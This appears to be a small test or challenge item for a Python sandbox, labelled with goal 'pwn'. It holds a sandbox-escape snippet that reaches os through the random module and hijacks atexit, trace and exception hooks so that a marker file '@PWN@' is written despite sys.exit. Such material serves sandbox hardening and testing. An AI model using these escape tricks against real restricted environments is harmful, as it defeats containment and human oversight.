# META {"kind": "proc", "goal": "pwn", "args": [], "slots": {"name": "mallory"}}
import random
def m(self):
    os = random._os
    sys = os.sys
    atexit = sys.modules["atexit"]
    atexit.register(lambda: os.open("@PWN@", 66))
    sys.settrace(lambda *args: atexit._run_exitfuncs())
    sys.excepthook = sys.unraisablehook = lambda *args: os.open("@PWN@", 66)
    sys.exit("L1:left")
